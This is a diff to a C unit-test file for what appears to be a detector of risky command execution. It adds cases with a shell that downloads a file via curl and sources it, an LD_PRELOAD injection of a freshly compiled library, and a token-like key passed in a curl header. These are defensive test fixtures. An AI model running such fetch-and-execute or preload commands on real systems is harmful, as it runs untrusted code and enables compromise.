@@ -107,6 +107,8 @@ static void an_operand_of_an_option_named_like_a_secret(void **s)
 			    "a",
 			    "dir/\xff.txt"));
 	check_miss("R3.4");
+	argued("tool", ARGV("tool", "\xff=", "--title=a\xff"));
+	check_miss("R3.4");
 }
 
 static void a_value_never_stands_in_evidence(void **s)
@@ -125,6 +127,10 @@ static void a_token_in_the_middle_of_an_argument(void **s)
 	(void)s;
 	argued("curl", ARGV("curl", "-H", "X: AKIAIOSFODNN7EXAMPLZ", "http://x"));
 	check_hit("R3.4");
+	assert_string_equal(found("R3.4")->evidence.ptr, "argument 2 of curl holds token:aws");
+	process.argc = 2; /* the rest is no argument of its */
+	run_it(&process);
+	check_miss("R3.4");
 	argued("curl", ARGV("curl", "-H", "X: AKIAIOSFO", "http://x"));
 	check_miss("R3.4");
 }
@@ -178,6 +184,9 @@ static void a_program_found_by_an_unsafe_entry_of_path(void **s)
 	p->path_entry = 2;
 	run_it(p);
 	check_miss("R3.3");
+	p->name = (char *)"busybox"; /* argv[0] is another program's: nothing is known of it */
+	run_it(p);
+	check_hit("R3.3");
 }
 
 static void a_program_that_gives_privilege(void **s)
@@ -306,12 +315,26 @@ static void a_start_up_variable_points_at_what_others_can_change(void **s)
 	assert_int_equal(report.n, 1);
 }
 
+static void a_shell_reads_a_download_into_itself(void **s)
+{
+	(void)s;
+	run_it(process_new("sh", ROLE_SHELL, ARGV("sh", "-c", "curl -so x http://h; . ./x")));
+	check_hit("R3.6");
+	run_it(process_new("sh", ROLE_SHELL, ARGV("sh", "-c", "curl -so x http://h; cat ./x")));
+	check_miss("R3.6");
+	run_it(process_new("tool", 0, ARGV("tool", "-c", "curl -so x http://h; . ./x")));
+	check_miss("R3.6");
+}
+
+static bool cut; /* the path's beginning is not known */
+
 static void written_under(const char *string, const char *path)
 {
 	struct fact f = { .kind = FACT_FILE, .run = &run };
 
 	f.process = process_new("bash", ROLE_SHELL, ARGV("bash", "-c", string));
 	f.file.path.text = (char *)path;
+	f.file.path.cut = cut;
 	report_reset(&report);
 	detect_command_execution.look(&f, &report);
 }
@@ -330,6 +353,10 @@ static void a_shell_is_told_to_preload_what_is_written_below_it(void **s)
 	check_miss("R3.8");
 	written_under("cc -o /tmp/x.so x.c", "/tmp/x.so");
 	check_miss("R3.8");
+	cut = true;
+	written_under("cc -o /tmp/x.so x.c && LD_PRELOAD=/tmp/x.so true", "/tmp/x.so");
+	check_miss("R3.8");
+	cut = false;
 	run.cwd = NULL;
 }
 
@@ -349,6 +376,7 @@ int main(void)
 		cmocka_unit_test(a_script_that_others_can_change),
 		cmocka_unit_test(a_start_up_variable_points_at_a_file_of_the_run),
 		cmocka_unit_test(a_start_up_variable_points_at_what_others_can_change),
+		cmocka_unit_test(a_shell_reads_a_download_into_itself),
 		cmocka_unit_test(a_shell_is_told_to_preload_what_is_written_below_it),
 	};
 
